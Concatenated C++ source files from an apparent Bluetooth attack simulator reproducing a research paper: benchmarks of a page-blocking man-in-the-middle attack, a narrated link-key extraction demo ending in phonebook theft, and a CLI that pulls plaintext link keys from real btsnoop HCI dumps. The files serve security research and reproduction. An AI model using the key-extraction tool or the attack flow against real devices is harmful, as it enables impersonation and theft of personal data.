      params.kind = snapshot::ScenarioParams::Kind::kAbc;
      params.table = snapshot::ProfileTable::kTable2;
      params.profile_index = profile_index;
      params.accessory_transport = TransportKind::kUart;
      params.accessory_has_dump = true;
      params.baseline_bias = profile.baseline_mitm_success;

      const auto trial_body = [&](const campaign::TrialSpec&, Scenario& s) {
        if (with_metrics) {
          obs::ObsConfig obs_cfg;
          obs_cfg.metrics = true;
          s.sim->enable_observability(obs_cfg);
        }
        campaign::TrialResult r;
        if (with_blocking) {
          const auto report =
              PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
          r.success = report.mitm_established;
        } else {
          r.success = PageBlockingAttack::baseline_trial(*s.sim, *s.attacker, *s.accessory,
                                                         *s.target);
        }
        r.virtual_end = s.sim->now();
        if (with_metrics)
          r.metrics =
              std::make_shared<const obs::MetricsSnapshot>(s.sim->observer()->snapshot());
        return r;
      };

      campaign::CampaignSummary summary;
      if (use_fork) {
        snapshot::RecordOptions rec;
        snapshot::ForkStats stats;
        if (record_dir != nullptr) {
          // Per-cell subdirectory: bundle names are per-campaign indices.
          std::string cell_dir = cfg.label;
          for (char& c : cell_dir)
            if (c == ' ' || c == '/') c = '-';
          rec.dir = std::string(record_dir) + "/" + cell_dir;
          rec.trial_kind = !with_blocking    ? "page_blocking_baseline"
                           : with_metrics    ? "page_blocking_attack_metrics"
                                             : "page_blocking_attack";
        }
        summary = snapshot::run_fork_campaign(
            cfg, params, trial_body, rec.dir.empty() ? nullptr : &rec, &stats);
        bundles_written += stats.bundle_paths.size();
      } else {
        summary = campaign::run_campaign(cfg, [&](const campaign::TrialSpec& spec) {
          Scenario s = snapshot::build_scenario(spec.seed, params);
          return trial_body(spec, s);
        });
      }
      wall_s += static_cast<double>(summary.wall_total_ns) * 1e-9;
      jobs_used = summary.jobs_used;  // engine clamps jobs to the trial count
      json_all += summary.to_json();
      if (csv_path) {
        csv_all += "# " + summary.label + "\n";
        csv_all += summary.to_csv();
      }
      return summary;
    };

    const auto baseline = run_cell("baseline", false);
    const auto attack = run_cell("page blocking", true);
    std::printf("%-26s | %7.1f%%  [%5.1f%%, %5.1f%%]  | %7.1f%%  [%5.1f%%, %5.1f%%]\n",
                (profile.model + " (" + profile.os + ")").c_str(),
                100.0 * baseline.success_rate, 100.0 * baseline.ci.low,
                100.0 * baseline.ci.high, 100.0 * attack.success_rate,
                100.0 * attack.ci.low, 100.0 * attack.ci.high);
  }

  const std::size_t total = trials * cell;
  std::printf("\n%zu trials total on %u worker(s): %.3f s wall (%.1f trials/s)\n", total,
              jobs_used, wall_s, wall_s > 0 ? static_cast<double>(total) / wall_s : 0.0);
  if (record_dir != nullptr)
    std::printf("%zu replay bundle(s) recorded under %s (re-run with blap-replay)\n",
                bundles_written, record_dir);

  bool emit_ok = true;
  auto emit = [&emit_ok](const char* path, const std::string& data, const char* what) {
    std::ofstream out(path);
    out << data;
    out.flush();
    if (out) {
      std::printf("%s -> %s\n", what, path);
    } else {
      std::fprintf(stderr, "error: could not write %s to %s\n", what, path);
      emit_ok = false;
    }
  };
  if (json_path) emit(json_path, json_all, "aggregate JSON");
  if (csv_path) emit(csv_path, csv_all, "per-trial CSV ");

  if (trace_path) {
    // One fully-traced trial for Perfetto: the first Table II victim under
    // page blocking, same seed derivation as the sweep's cell 1 / trial 0.
    const auto& profile = table2_profiles().front();
    Scenario s = make_scenario(campaign::trial_seed(campaign::trial_seed(root, 1), 0),
                               profile, TransportKind::kUart, true,
                               profile.baseline_mitm_success);
    obs::ObsConfig obs_cfg;
    obs_cfg.tracing = true;
    obs_cfg.metrics = true;
    auto& observer = s.sim->enable_observability(obs_cfg);
    (void)PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
    emit(trace_path, observer.recorder().to_chrome_json(), "Chrome trace JSON");
  }
  return emit_ok ? 0 : 1;
}
