// snoop_inspector.cpp — the attacker's HCI dump analysis tool as a CLI.
//
//   $ ./snoop_inspector <file.btsnoop>       # analyze an existing dump
//   $ ./snoop_inspector --demo <out.btsnoop> # generate a dump, then analyze
//   $ ./snoop_inspector <file.btsnoop> --trace-out <file.trace.json>
//                                            # ...and convert to Chrome trace
//
// Parses an RFC 1761 btsnoop file, prints the frame table, flags every
// key-bearing packet, and extracts the link keys — the exact workflow of
// paper §IV-A against a log pulled from an Android bug report. --trace-out
// re-emits the dump as the same Chrome trace-event JSON the simulator's
// observability layer produces (one lane per direction, key-bearing frames
// as attack-layer instants), so a captured log and a simulated trial can be
// compared side by side in Perfetto.
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>

#include "core/device.hpp"
#include "core/snoop_extractor.hpp"
#include "obs/obs.hpp"

namespace {

int export_trace(const blap::hci::SnoopLog& log, const std::string& out_path) {
  using namespace blap;
  obs::TraceRecorder recorder(log.size() + 16);
  const std::uint32_t h2c = recorder.intern_device("host->controller");
  const std::uint32_t c2h = recorder.intern_device("controller->host");
  const std::uint32_t keys = recorder.intern_device("key material");
  std::size_t index = 0;
  for (const auto& record : log.records()) {
    const bool to_host = record.direction == hci::Direction::kControllerToHost;
    recorder.instant(record.timestamp_us, to_host ? c2h : h2c, obs::Layer::kHci,
                     record.packet.describe(),
                     strfmt("frame %zu, %zu bytes", index, record.packet.payload.size()));
    ++index;
  }
  for (const auto& key : core::extract_link_keys(log)) {
    const auto& record = log.records()[key.frame_index];
    recorder.instant(record.timestamp_us, keys, obs::Layer::kAttack, "plaintext_link_key",
                     strfmt("frame %zu (%s): peer %s", key.frame_index, to_string(key.source),
                            key.peer.to_string().c_str()));
  }
  std::ofstream out(out_path);
  out << recorder.to_chrome_json();
  out.flush();
  if (!out) {
    std::fprintf(stderr, "error: cannot write '%s'\n", out_path.c_str());
    return 1;
  }
  std::printf("Chrome trace JSON (%zu events) -> %s\n", recorder.size(), out_path.c_str());
  return 0;
}

int analyze(const std::string& path, const std::string& trace_out = {}) {
  using namespace blap;
  auto log = hci::SnoopLog::load(path);
  if (!log) {
    std::fprintf(stderr, "error: cannot parse '%s' as a btsnoop file\n", path.c_str());
    return 1;
  }
  std::printf("%s: %zu records\n\n", path.c_str(), log->size());
  std::printf("%s\n", log->format_table().c_str());
  if (!trace_out.empty()) {
    const int rc = export_trace(*log, trace_out);
    if (rc != 0) return rc;
  }

  const auto keys = blap::core::extract_link_keys(*log);
  if (keys.empty()) {
    std::printf("No link keys found in this dump.\n");
    return 0;
  }
  std::printf("!! %zu LINK KEY%s FOUND IN PLAINTEXT !!\n", keys.size(),
              keys.size() == 1 ? "" : "S");
  for (const auto& key : keys) {
    std::printf("  frame %-4zu %-28s peer %s  key %s\n", key.frame_index,
                to_string(key.source), key.peer.to_string().c_str(),
                blap::crypto::key_to_hex(key.key).c_str());
  }
  return 0;
}

int demo(const std::string& path) {
  using namespace blap;
  using namespace blap::core;
  // Produce a realistic dump: pair, disconnect, reconnect (bonded).
  Simulation sim(3);
  DeviceSpec m_spec;
  m_spec.name = "phone";
  m_spec.address = *BdAddr::parse("48:90:12:34:56:78");
  DeviceSpec c_spec;
  c_spec.name = "headset";
  c_spec.address = *BdAddr::parse("00:1b:7d:da:71:0a");
  c_spec.class_of_device = ClassOfDevice(ClassOfDevice::kHandsFree);
  Device& m = sim.add_device(m_spec);
  Device& c = sim.add_device(c_spec);
  m.host().enable_snoop(true);
  m.host().pair(c.address(), [](hci::Status) {});
  sim.run_for(10 * kSecond);
  m.host().disconnect(c.address());
  sim.run_for(2 * kSecond);
  m.host().pair(c.address(), [](hci::Status) {});
  sim.run_for(10 * kSecond);
  if (!m.host().snoop().save(path)) {
    std::fprintf(stderr, "error: cannot write '%s'\n", path.c_str());
    return 1;
  }
  std::printf("wrote %zu records to %s\n\n", m.host().snoop().size(), path.c_str());
  return analyze(path);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 3 && std::strcmp(argv[1], "--demo") == 0) return demo(argv[2]);
  if (argc == 4 && std::strcmp(argv[2], "--trace-out") == 0)
    return analyze(argv[1], argv[3]);
  if (argc == 2) return analyze(argv[1]);
  std::fprintf(stderr,
               "usage: %s <file.btsnoop> [--trace-out <out.trace.json>]\n"
               "       %s --demo <out.btsnoop>\n",
               argv[0], argv[0]);
  return 2;
}
