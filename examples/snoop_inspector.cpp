// snoop_inspector.cpp — the attacker's HCI dump analysis tool as a CLI.
//
//   $ ./snoop_inspector <file.btsnoop>       # analyze an existing dump
//   $ ./snoop_inspector --demo <out.btsnoop> # generate a dump, then analyze
//   $ ./snoop_inspector <file.btsnoop> --trace-out <file.trace.json>
//                                            # ...and convert to Chrome trace
//   $ ./snoop_inspector <file.btsnoop> --jsonl
//                                            # one JSON object per record
//
// Parses an RFC 1761 btsnoop file, prints the frame table, flags every
// key-bearing packet, and extracts the link keys — the exact workflow of
// paper §IV-A against a log pulled from an Android bug report. --trace-out
// re-emits the dump as the same Chrome trace-event JSON the simulator's
// observability layer produces (one lane per direction, key-bearing frames
// as attack-layer instants), so a captured log and a simulated trial can be
// compared side by side in Perfetto. --jsonl streams the capture through
// hci::SnoopCursor (the same zero-copy iterator the fleet analytics engine
// drives) and prints one JSON object per record with the field names the
// FleetReport timelines use ("frame" 1-based, "ts_us"), so a single capture
// can be grepped/jq'd the same way as a blap-snoopd fleet report. Malformed
// input is reported as the typed fault with its byte offset.
#include <cstdio>
#include <cstring>
#include <fstream>
#include <iterator>
#include <string>

#include "core/device.hpp"
#include "core/snoop_extractor.hpp"
#include "obs/obs.hpp"

namespace {

std::optional<blap::Bytes> read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return std::nullopt;
  return blap::Bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
}

const char* h4_type_name(blap::BytesView wire) {
  using blap::hci::PacketType;
  if (wire.empty()) return "empty";
  switch (static_cast<PacketType>(wire[0])) {
    case PacketType::kCommand: return "cmd";
    case PacketType::kAclData: return "acl";
    case PacketType::kScoData: return "sco";
    case PacketType::kEvent: return "evt";
    default: return "unknown";
  }
}

// One record per line via the streaming cursor: no per-record allocation
// beyond the describe() string, faults reported with their byte offset.
int emit_jsonl(const std::string& path) {
  using namespace blap;
  const auto data = read_file(path);
  if (!data) {
    std::fprintf(stderr, "error: cannot read '%s'\n", path.c_str());
    return 1;
  }
  hci::SnoopFault fault;
  auto cursor = hci::SnoopCursor::open(*data, &fault);
  if (!cursor) {
    std::fprintf(stderr, "error: %s: %s\n", path.c_str(), fault.describe().c_str());
    return 1;
  }
  while (const auto record = cursor->next()) {
    std::string desc = "unparsed";
    if (const auto packet = hci::HciPacket::from_wire(record->wire))
      desc = packet->describe();
    std::printf("{\"frame\": %zu, \"ts_us\": %llu, \"dir\": \"%s\", \"type\": \"%s\", "
                "\"orig_len\": %u, \"incl_len\": %zu, \"truncated\": %s, \"desc\": \"%s\"}\n",
                record->index + 1, static_cast<unsigned long long>(record->timestamp_us),
                record->direction == hci::Direction::kControllerToHost ? "c2h" : "h2c",
                h4_type_name(record->wire), record->orig_len, record->wire.size(),
                record->payload_truncated() ? "true" : "false",
                obs::json_escape(desc).c_str());
  }
  if (!cursor->fault().ok()) {
    std::fprintf(stderr, "error: %s: %s (after %zu record(s))\n", path.c_str(),
                 cursor->fault().describe().c_str(), cursor->records_read());
    return 1;
  }
  return 0;
}

int export_trace(const blap::hci::SnoopLog& log, const std::string& out_path) {
  using namespace blap;
  obs::TraceRecorder recorder(log.size() + 16);
  const std::uint32_t h2c = recorder.intern_device("host->controller");
  const std::uint32_t c2h = recorder.intern_device("controller->host");
  const std::uint32_t keys = recorder.intern_device("key material");
  std::size_t index = 0;
  for (const auto& record : log.records()) {
    const bool to_host = record.direction == hci::Direction::kControllerToHost;
    recorder.instant(record.timestamp_us, to_host ? c2h : h2c, obs::Layer::kHci,
                     record.packet.describe(),
                     strfmt("frame %zu, %zu bytes", index, record.packet.payload.size()));
    ++index;
  }
  for (const auto& key : core::extract_link_keys(log)) {
    const auto& record = log.records()[key.frame_index];
    recorder.instant(record.timestamp_us, keys, obs::Layer::kAttack, "plaintext_link_key",
                     strfmt("frame %zu (%s): peer %s", key.frame_index, to_string(key.source),
                            key.peer.to_string().c_str()));
  }
  std::ofstream out(out_path);
  out << recorder.to_chrome_json();
  out.flush();
  if (!out) {
    std::fprintf(stderr, "error: cannot write '%s'\n", out_path.c_str());
    return 1;
  }
  std::printf("Chrome trace JSON (%zu events) -> %s\n", recorder.size(), out_path.c_str());
  return 0;
}

int analyze(const std::string& path, const std::string& trace_out = {}) {
  using namespace blap;
  const auto data = read_file(path);
  if (!data) {
    std::fprintf(stderr, "error: cannot read '%s'\n", path.c_str());
    return 1;
  }
  auto result = hci::SnoopLog::parse_checked(*data);
  if (!result.log) {
    std::fprintf(stderr, "error: %s: %s\n", path.c_str(), result.fault.describe().c_str());
    return 1;
  }
  if (!result.fault.ok())
    std::fprintf(stderr, "warning: %s: %s — keeping the %zu record(s) before it\n",
                 path.c_str(), result.fault.describe().c_str(), result.log->size());
  const auto& log = result.log;
  std::printf("%s: %zu records\n\n", path.c_str(), log->size());
  std::printf("%s\n", log->format_table().c_str());
  if (!trace_out.empty()) {
    const int rc = export_trace(*log, trace_out);
    if (rc != 0) return rc;
  }

  const auto keys = blap::core::extract_link_keys(*log);
  if (keys.empty()) {
    std::printf("No link keys found in this dump.\n");
    return 0;
  }
  std::printf("!! %zu LINK KEY%s FOUND IN PLAINTEXT !!\n", keys.size(),
              keys.size() == 1 ? "" : "S");
  for (const auto& key : keys) {
    std::printf("  frame %-4zu %-28s peer %s  key %s\n", key.frame_index,
                to_string(key.source), key.peer.to_string().c_str(),
                blap::crypto::key_to_hex(key.key).c_str());
  }
  return 0;
}

int demo(const std::string& path) {
  using namespace blap;
  using namespace blap::core;
  // Produce a realistic dump: pair, disconnect, reconnect (bonded).
  Simulation sim(3);
  DeviceSpec m_spec;
  m_spec.name = "phone";
  m_spec.address = *BdAddr::parse("48:90:12:34:56:78");
  DeviceSpec c_spec;
  c_spec.name = "headset";
  c_spec.address = *BdAddr::parse("00:1b:7d:da:71:0a");
  c_spec.class_of_device = ClassOfDevice(ClassOfDevice::kHandsFree);
  Device& m = sim.add_device(m_spec);
  Device& c = sim.add_device(c_spec);
  m.host().enable_snoop(true);
  m.host().pair(c.address(), [](hci::Status) {});
  sim.run_for(10 * kSecond);
  m.host().disconnect(c.address());
  sim.run_for(2 * kSecond);
  m.host().pair(c.address(), [](hci::Status) {});
  sim.run_for(10 * kSecond);
  if (!m.host().snoop().save(path)) {
    std::fprintf(stderr, "error: cannot write '%s'\n", path.c_str());
    return 1;
  }
  std::printf("wrote %zu records to %s\n\n", m.host().snoop().size(), path.c_str());
  return analyze(path);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 3 && std::strcmp(argv[1], "--demo") == 0) return demo(argv[2]);
  if (argc == 3 && std::strcmp(argv[2], "--jsonl") == 0) return emit_jsonl(argv[1]);
  if (argc == 3 && std::strcmp(argv[1], "--jsonl") == 0) return emit_jsonl(argv[2]);
  if (argc == 4 && std::strcmp(argv[2], "--trace-out") == 0)
    return analyze(argv[1], argv[3]);
  if (argc == 2) return analyze(argv[1]);
  std::fprintf(stderr,
               "usage: %s <file.btsnoop> [--trace-out <out.trace.json>] [--jsonl]\n"
               "       %s --demo <out.btsnoop>\n",
               argv[0], argv[0]);
  return 2;
}
