// link_key_extraction_demo.cpp — the paper's Fig. 5 attack, narrated.
//
//   $ ./link_key_extraction_demo [--usb]
//
// Three devices: M (victim phone), C (accessory bonded to M), A (attacker).
// A manipulates C into logging its link key for M, extracts the key from
// C's HCI dump (or USB capture with --usb), then impersonates C against M.
#include <cstdio>
#include <cstring>

#include "core/link_key_extraction.hpp"
#include "core/profiles.hpp"

int main(int argc, char** argv) {
  using namespace blap;
  using namespace blap::core;

  const bool use_usb = argc > 1 && std::strcmp(argv[1], "--usb") == 0;

  Simulation sim(2022);

  // The paper's testbed: Nexus 5x attacker, Android accessory (or a Windows
  // PC with a USB dongle for the --usb path), LG VELVET victim.
  DeviceSpec a_spec = attacker_profile().to_spec("attacker", *BdAddr::parse("aa:aa:aa:00:00:01"));
  const DeviceProfile c_profile = use_usb ? table1_profiles()[7]   // Win10 + CSR dongle
                                          : table1_profiles()[0];  // Nexus 5x Android 8
  DeviceSpec c_spec = c_profile.to_spec("accessory", *BdAddr::parse("00:1b:7d:da:71:0a"),
                                        ClassOfDevice(ClassOfDevice::kHandsFree));
  DeviceSpec m_spec = table2_profiles()[5].to_spec("velvet", *BdAddr::parse("48:90:12:34:56:78"));

  Device& attacker = sim.add_device(a_spec);
  Device& accessory = sim.add_device(c_spec);
  Device& target = sim.add_device(m_spec);

  std::printf("Scenario:\n");
  std::printf("  M (hard target) : %s  %s\n", target.address().to_string().c_str(),
              m_spec.name.c_str());
  std::printf("  C (soft target) : %s  %s / %s (%s)\n",
              accessory.address().to_string().c_str(), c_profile.os.c_str(),
              c_profile.host_stack.c_str(), use_usb ? "USB sniff" : "HCI dump");
  std::printf("  A (attacker)    : %s  Nexus 5x, modified bluedroid\n\n",
              attacker.address().to_string().c_str());

  LinkKeyExtractionOptions options;
  options.use_usb_sniff = use_usb;
  const auto report = LinkKeyExtractionAttack::run(sim, attacker, accessory, target, options);

  std::printf("Attack transcript:\n");
  std::printf("  [%c] C and M bonded (precondition)\n", report.bonded_precondition ? '+' : '-');
  std::printf("  [%c] key captured on C via %s (%zu key sightings)\n",
              report.key_extracted ? '+' : '-', report.capture_channel.c_str(),
              report.keys_in_capture);
  std::printf("  [%c] extracted key matches C's bond: %s\n", report.key_matches_bond ? '+' : '-',
              crypto::key_to_hex(report.extracted_key).c_str());
  std::printf("  [%c] C saw \"%s\" — not an authentication failure; bond intact: %s\n",
              report.c_bond_survived ? '+' : '-', hci::to_string(report.c_auth_status),
              report.c_bond_survived ? "yes" : "no");
  std::printf("  [%c] impersonation of C against M over PAN succeeded without re-pairing\n",
              report.impersonation_succeeded ? '+' : '-');

  // The paper's end state (§III-B): "mine sensitive information" — pull the
  // victim's phone book over PBAP with the stolen identity.
  bool looted = false;
  if (report.impersonation_succeeded) {
    std::optional<std::vector<std::string>> loot;
    bool done = false;
    attacker.host().pull_phonebook(target.address(),
                                   [&](std::optional<std::vector<std::string>> e) {
                                     loot = std::move(e);
                                     done = true;
                                   });
    sim.run_for(10 * kSecond);
    if (done && loot) {
      looted = true;
      std::printf("  [+] exfiltrated M's phone book (%zu entries):\n", loot->size());
      for (const auto& entry : *loot) std::printf("        %s\n", entry.c_str());
    }
  }

  const bool ok = report.key_matches_bond && report.c_bond_survived &&
                  report.impersonation_succeeded && looted;
  std::printf("\n%s\n", ok ? "ATTACK SUCCEEDED — persistent impersonation established."
                           : "attack failed");
  return ok ? 0 : 1;
}
