// quickstart.cpp — assemble two Bluetooth devices, pair them with Secure
// Simple Pairing (Numeric Comparison), bond, reconnect using the stored link
// key, and exchange encrypted data.
//
//   $ ./quickstart
//
// This is the "hello world" of the BLAP simulator: everything the library
// does — HCI, baseband, LMP, SSP crypto, snoop logging — runs underneath
// these ~60 lines.
#include <cstdio>

#include "core/device.hpp"

int main() {
  using namespace blap;
  using namespace blap::core;

  // A deterministic world: same seed, same keys, same logs.
  Simulation sim(/*seed=*/1);

  DeviceSpec phone;
  phone.name = "phone";
  phone.address = *BdAddr::parse("48:90:12:34:56:78");
  phone.class_of_device = ClassOfDevice(ClassOfDevice::kMobilePhone);

  DeviceSpec headset;
  headset.name = "headset";
  headset.address = *BdAddr::parse("00:1b:7d:da:71:0a");
  headset.class_of_device = ClassOfDevice(ClassOfDevice::kHandsFree);

  Device& m = sim.add_device(phone);
  Device& c = sim.add_device(headset);
  m.host().enable_snoop(true);  // Android-style HCI dump

  // 1. Discover.
  std::printf("== discovery ==\n");
  m.host().discover(4, [&](std::vector<host::HostStack::Discovered> found) {
    for (const auto& device : found)
      std::printf("  found %s (%s)\n", device.address.to_string().c_str(),
                  device.class_of_device.describe().c_str());
  });
  sim.run_for(8 * kSecond);

  // 2. Pair (SSP Numeric Comparison; the default user accepts the popup).
  std::printf("== pairing ==\n");
  m.host().pair(c.address(), [&](hci::Status status) {
    std::printf("  pairing result: %s\n", hci::to_string(status));
  });
  sim.run_for(10 * kSecond);

  const auto key = m.host().security().link_key_for(c.address());
  if (!key) {
    std::printf("no bond was created\n");
    return 1;
  }
  std::printf("  bonded; link key = %s\n", crypto::key_to_hex(*key).c_str());
  std::printf("  phone's bt_config.conf:\n%s", m.host().security().to_bt_config().c_str());

  // 3. Disconnect and reconnect — LMP authentication with the stored key,
  //    no pairing UI this time.
  std::printf("== bonded reconnect ==\n");
  m.host().disconnect(c.address());
  sim.run_for(2 * kSecond);
  m.host().pair(c.address(), [&](hci::Status status) {
    std::printf("  reconnect result: %s (no new pairing popup)\n", hci::to_string(status));
  });
  sim.run_for(10 * kSecond);

  // 4. The HCI dump recorded everything — including the link key, which is
  //    the whole point of the BLAP paper.
  std::printf("== phone's HCI dump (last 12 frames) ==\n");
  const auto table = m.host().snoop().format_table();
  // Print only the tail to keep the output short.
  std::size_t lines = 0, pos = table.size();
  while (pos > 0 && lines < 13) {
    pos = table.rfind('\n', pos - 1);
    if (pos == std::string::npos) {
      pos = 0;
      break;
    }
    ++lines;
  }
  std::printf("%s\n", table.substr(pos == 0 ? 0 : pos + 1).c_str());
  return 0;
}
