// trace_viewer — one fully-observed Table II page blocking trial.
//
// Runs a single seeded attack with tracing AND metrics on, then emits:
//
//   * a Chrome trace-event JSON file (default: page_blocking.trace.json) —
//     open it at https://ui.perfetto.dev to see the attacker, accessory and
//     victim lanes: the per-candidate paging-race spans, the attacker's PLOC
//     window, the victim's SSP pairing span, and the plaintext link-key
//     instants on the HCI layer;
//   * the compact text timeline on stdout;
//   * the metrics snapshot JSON on stdout.
//
//   trace_viewer [--seed N] [--victim INDEX] [--loss P] [--out FILE] [--quiet]
//
// --loss P (0 < P <= 1) runs the trial over a lossy channel through the
// fault layer: the trace then shows the baseband ARQ at work — `arq_retx`
// instants clustering into retransmission storms on the controller lane,
// `arq_exhausted` where a frame ran out of retries, and (at high enough
// loss) the supervision teardown. Everything is a pure function of
// (seed, victim index, loss): re-runs produce byte-identical trace and
// metrics output.
#include <cstring>
#include <fstream>
#include <string>

#include "bench/bench_util.hpp"
#include "faults/fault_plan.hpp"

int main(int argc, char** argv) {
  using namespace blap;
  using namespace blap::bench;
  using namespace blap::core;

  std::uint64_t seed = 42;
  std::size_t victim_index = 0;
  double loss = 0.0;
  const char* out_path = "page_blocking.trace.json";
  bool quiet = false;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--seed") == 0 && i + 1 < argc)
      seed = std::strtoull(argv[++i], nullptr, 0);
    else if (std::strcmp(argv[i], "--victim") == 0 && i + 1 < argc)
      victim_index = static_cast<std::size_t>(std::strtoull(argv[++i], nullptr, 0));
    else if (std::strcmp(argv[i], "--loss") == 0 && i + 1 < argc)
      loss = std::strtod(argv[++i], nullptr);
    else if (std::strcmp(argv[i], "--out") == 0 && i + 1 < argc)
      out_path = argv[++i];
    else if (std::strcmp(argv[i], "--quiet") == 0)
      quiet = true;
    else {
      std::fprintf(stderr,
                   "usage: %s [--seed N] [--victim INDEX] [--loss P] [--out FILE] [--quiet]\n",
                   argv[0]);
      return 2;
    }
  }

  const auto& profiles = table2_profiles();
  if (victim_index >= profiles.size()) {
    std::fprintf(stderr, "error: victim index %zu out of range (0..%zu)\n", victim_index,
                 profiles.size() - 1);
    return 2;
  }
  const auto& profile = profiles[victim_index];

  Scenario s = make_scenario(seed, profile, TransportKind::kUart, true,
                             profile.baseline_mitm_success);
  obs::ObsConfig obs_cfg;
  obs_cfg.tracing = true;
  obs_cfg.metrics = true;
  auto& observer = s.sim->enable_observability(obs_cfg);
  if (loss > 0.0) {
    faults::FaultPlan plan;
    plan.seed = seed;
    plan.loss = loss;
    s.sim->set_fault_plan(plan);
  }

  banner("TRACE VIEWER — page blocking vs " + profile.model + " (" + profile.os + "), seed " +
         std::to_string(seed) + (loss > 0.0 ? ", loss " + std::to_string(loss) : ""));
  const auto report = PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  std::printf("ploc_established=%d pairing_completed=%d mitm_established=%d\n",
              report.ploc_established ? 1 : 0, report.pairing_completed ? 1 : 0,
              report.mitm_established ? 1 : 0);

  if (!quiet) {
    banner("VIRTUAL-TIME TIMELINE");
    std::fputs(observer.recorder().to_text().c_str(), stdout);
    banner("METRICS SNAPSHOT");
    std::printf("%s\n", observer.snapshot().to_json().c_str());
  }

  std::ofstream out(out_path);
  out << observer.recorder().to_chrome_json();
  out.flush();
  if (!out) {
    std::fprintf(stderr, "error: could not write trace to %s\n", out_path);
    return 1;
  }
  std::printf("\nChrome trace JSON (%zu events, %llu dropped) -> %s\n",
              observer.recorder().size(),
              static_cast<unsigned long long>(observer.recorder().dropped()), out_path);
  std::printf("open in https://ui.perfetto.dev or chrome://tracing\n");
  return 0;
}
