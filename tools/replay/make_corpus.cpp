// make_corpus — regenerate the checked-in replay corpus (tests/replay_corpus/).
//
//   make_corpus <output-dir>
//
// Records three bundles that pin the record–replay contract in CI
// (tests/test_replay_corpus.cpp replays each and requires an exact
// reproduction):
//
//   * baseline-miss    — a clean-channel Table II baseline trial the
//                        attacker LOST (the page race went to C). Profile
//                        row 5, the extraction victim.
//   * attack-clean     — a clean-channel page blocking attack trial
//                        (deterministic success), with metrics recorded.
//   * lossy-supervision — a 35 %-loss attack trial whose metrics show the
//                        ARQ giving up (supervision timeout), from the
//                        bench_fault_sweep heavy cell (root seed
//                        77'000 + 3 * 1'000'000).
//   * chaos-supervision-early — the chaos sweep finding that exposed HCI
//                        transport reordering: a misprogrammed supervision
//                        timer fires during pairing and the resulting small
//                        Disconnection_Complete used to overtake the larger
//                        Connection_Complete on the wire, leaving the host
//                        holding a phantom ACL (link-table-agreement
//                        violation). Replays clean since the per-direction
//                        transport FIFO landed.
//   * chaos-teardown-race — a supervision timeout delivered at teardown
//                        entry; used to double-notify the host. Replays
//                        clean since teardown_link became idempotent.
//   * fuzz-*           — the stack fuzz target's canonical op streams, one
//                        bundle each (trial kind "fuzz_stack"). The first
//                        coverage-guided campaign flagged the phantom-
//                        connection stream immediately: the host fabricated
//                        an ACL from an unsolicited Connection_Complete
//                        (link-table-agreement violation). Replays clean
//                        since on_connection_complete() started requiring a
//                        pending connect/accept; each bundle pins its
//                        post-fix verdict exactly.
//
// The output is deterministic: same binaries -> same bundle bytes. The
// corpus only needs regenerating when the snapshot format, the scenario
// builders, or the trial bodies deliberately change.
#include <cstdio>
#include <filesystem>
#include <memory>

#include "core/page_blocking.hpp"
#include "fuzz/targets.hpp"
#include "obs/obs.hpp"
#include "snapshot/chaos_trial.hpp"
#include "snapshot/fork_campaign.hpp"
#include "snapshot/replay.hpp"

namespace {

using namespace blap;

campaign::TrialResult attack_metrics_body(const campaign::TrialSpec& spec,
                                          snapshot::Scenario& s, double loss) {
  auto& obs = s.sim->enable_observability({.tracing = false, .metrics = true});
  if (loss > 0.0) {
    faults::FaultPlan plan;
    plan.seed = spec.seed;
    plan.loss = loss;
    s.sim->set_fault_plan(plan);
  }
  const auto report =
      core::PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  campaign::TrialResult r;
  r.success = report.mitm_established;
  r.virtual_end = s.sim->now();
  r.metrics = std::make_shared<obs::MetricsSnapshot>(obs.snapshot());
  return r;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace blap;

  if (argc != 2) {
    std::fprintf(stderr, "usage: %s <output-dir>\n", argv[0]);
    return 2;
  }
  const std::string out_dir = argv[1];
  std::error_code ec;
  std::filesystem::create_directories(out_dir, ec);

  snapshot::ScenarioParams params;
  params.kind = snapshot::ScenarioParams::Kind::kAbc;
  params.table = snapshot::ProfileTable::kTable2;
  params.profile_index = 5;
  params.accessory_transport = core::TransportKind::kUart;
  params.accessory_has_dump = true;
  params.baseline_bias = core::table2_profiles()[5].baseline_mitm_success;

  int written = 0;
  const auto report = [&written](const char* what, const snapshot::ForkStats& stats) {
    for (const auto& path : stats.bundle_paths) {
      std::printf("%-17s -> %s\n", what, path.c_str());
      ++written;
    }
  };

  // baseline-miss: first clean-channel baseline failure (attacker lost the
  // page race). Sequential seeds from the bench_table2 root.
  {
    campaign::CampaignConfig cfg;
    cfg.label = "corpus baseline";
    cfg.trials = 50;
    cfg.root_seed = 10'000;
    cfg.seed_fn = [](std::uint64_t root, std::size_t index) { return root + index; };
    snapshot::RecordOptions rec;
    rec.dir = out_dir + "/baseline-miss";
    rec.trial_kind = "page_blocking_baseline";
    rec.limit = 1;
    snapshot::ForkStats stats;
    (void)snapshot::run_fork_campaign(
        cfg, params,
        [](const campaign::TrialSpec&, snapshot::Scenario& s) {
          campaign::TrialResult r;
          r.success = core::PageBlockingAttack::baseline_trial(*s.sim, *s.attacker,
                                                               *s.accessory, *s.target);
          r.virtual_end = s.sim->now();
          return r;
        },
        &rec, &stats);
    report("baseline-miss", stats);
  }

  // attack-clean: one deterministic page blocking success, metrics on.
  {
    campaign::CampaignConfig cfg;
    cfg.label = "corpus attack";
    cfg.trials = 1;
    cfg.root_seed = 20'000;
    cfg.seed_fn = [](std::uint64_t root, std::size_t index) { return root + index; };
    snapshot::RecordOptions rec;
    rec.dir = out_dir + "/attack-clean";
    rec.trial_kind = "page_blocking_attack_metrics";
    rec.predicate = [](const campaign::TrialResult& r) { return r.success; };
    rec.limit = 1;
    snapshot::ForkStats stats;
    (void)snapshot::run_fork_campaign(
        cfg, params,
        [](const campaign::TrialSpec& spec, snapshot::Scenario& s) {
          return attack_metrics_body(spec, s, 0.0);
        },
        &rec, &stats);
